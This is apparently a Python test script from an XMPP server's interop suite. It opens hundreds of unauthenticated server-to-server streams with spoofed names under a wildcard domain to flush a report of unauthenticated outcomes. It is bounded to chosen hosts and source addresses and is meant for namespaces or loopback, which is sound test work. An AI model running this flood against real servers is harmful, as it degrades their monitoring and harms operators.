#!/usr/bin/python3
"""attack_report.py -- a crowd that tries to flush the report (issue 21, part 3).

Plaintext server-to-server streams, each claiming a different 'from' under
--suffix (LABEL-N.SUFFIX) and sending one stanza before authenticating, so
that each stream leaves one unauthenticated outcome. Where the claimed names
resolve to the source address (a wildcard record such as *.evil.example ->
the attacker's address), each outcome is address-matched: without per-source
caps, a few hundred of them push every real server out of the report.

Bounded in count (--count) and time (--timeout per stream, --duration in
all); it connects only to --host (--host6 from IPv6 sources) and binds only
the --source addresses (a range such as 127.0.0.66-69 spreads the crowd over
several; 2001:db8:bad:1::1-40 over 64 /64s of a /48). Run it where
the caller chose: a network namespace (tests/interop/test_retention.sh) or
loopback.

Prints one SUMMARY line (key=value): streams opened, features read, how the
daemon ended them (stream error conditions), failures to connect. --json
writes the same. Exit status 0 when the run completed (whatever the daemon
answered), 2 on a setup error.
"""
import argparse
import asyncio
import json
import sys
import time

from streamlib import (PROLOG, address_range, close_writer, condition_of, connect, count, daemon_for,
                       header, read_all)

READ_LIMIT = 65536


async def one(args, i, source, stats):
    """One stream: header claiming a name of its own, features, one stanza
    before authenticating, then read until the daemon closes."""
    claim = "%s%d.%s" % (args.label, i, args.suffix)
    try:
        reader, writer = await connect(daemon_for(source, args.host, args.host6), args.port, source)
    except (OSError, asyncio.TimeoutError):
        stats["connect_failed"] += 1
        return
    stats["opened"] += 1
    data = bytearray()
    try:
        writer.write(PROLOG + header(claim, args.to))
        end = time.monotonic() + args.timeout
        while b"features" not in data and time.monotonic() < end:
            chunk = await asyncio.wait_for(reader.read(4096), end - time.monotonic())
            if not chunk:
                break
            data += chunk[:READ_LIMIT - len(data)]
        if b"features" in data:
            stats["features"] += 1
        writer.write(("<iq type='get' id='a%d' from='%s' to='%s'><ping xmlns="
                      "'urn:xmpp:ping'/></iq>" % (i, claim, args.to)).encode())
        await writer.drain()
        if not await read_all(reader, data, max(0.1, end - time.monotonic())):
            stats["not_closed"] += 1
    except (OSError, asyncio.TimeoutError):
        stats["reset"] += 1
    finally:
        await close_writer(writer)
    count(stats["conditions"], condition_of(bytes(data)) or "none")


async def crowd(args):
    addrs = address_range(args.source)
    stats = {"opened": 0, "features": 0, "connect_failed": 0, "reset": 0,
             "not_closed": 0, "conditions": {}}
    gate = asyncio.Semaphore(args.concurrency)
    deadline = time.monotonic() + args.duration

    async def slot(i):
        async with gate:
            if time.monotonic() < deadline:
                await one(args, args.first + i, addrs[i % len(addrs)], stats)

    start = time.monotonic()
    await asyncio.gather(*(slot(i) for i in range(args.count)))
    stats["seconds"] = round(time.monotonic() - start, 2)
    return stats


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--host", default="127.0.0.2", help="the responder")
    ap.add_argument("--host6", default="", help="the responder's IPv6 address, for IPv6 sources")
    ap.add_argument("--port", type=int, default=5269)
    ap.add_argument("--source", default="127.0.0.66",
                    help="address(es) to send from: A, A-LAST (last octet; IPv6: the "
                         "fourth group, one address per /64), comma-separated")
    ap.add_argument("--to", required=True, help="the test domain addressed (plaintext: no-tls.BASE)")
    ap.add_argument("--suffix", default="evil.example", help="claimed names are LABELN.SUFFIX")
    ap.add_argument("--label", default="x", help="first label's stem")
    ap.add_argument("--first", type=int, default=0, help="N of the first claimed name")
    ap.add_argument("--count", type=int, default=400, help="streams in all")
    ap.add_argument("--concurrency", type=int, default=32, help="streams open at once")
    ap.add_argument("--timeout", type=float, default=5.0, help="seconds per stream")
    ap.add_argument("--duration", type=float, default=120.0, help="seconds in all")
    ap.add_argument("--json", help="write the summary here too")
    args = ap.parse_args()
    if args.count < 1 or args.concurrency < 1 or args.count > 1000000:
        print("attack_report: --count 1..1000000 and --concurrency >= 1", file=sys.stderr)
        return 2
    try:
        for src in address_range(args.source):
            daemon_for(src, args.host, args.host6)
    except ValueError as e:
        print("attack_report: %s" % e, file=sys.stderr)
        return 2
    stats = asyncio.run(crowd(args))
    conds = ",".join("%s:%d" % kv for kv in sorted(stats["conditions"].items()))
    print("SUMMARY role=report-flush streams=%d opened=%d features=%d connect_failed=%d "
          "reset=%d not_closed=%d conditions=%s seconds=%.2f"
          % (args.count, stats["opened"], stats["features"], stats["connect_failed"],
             stats["reset"], stats["not_closed"], conds or "-", stats["seconds"]))
    if args.json:
        with open(args.json, "w") as f:
            json.dump(stats, f, indent=1)
    return 0


if __name__ == "__main__":
    sys.exit(main())
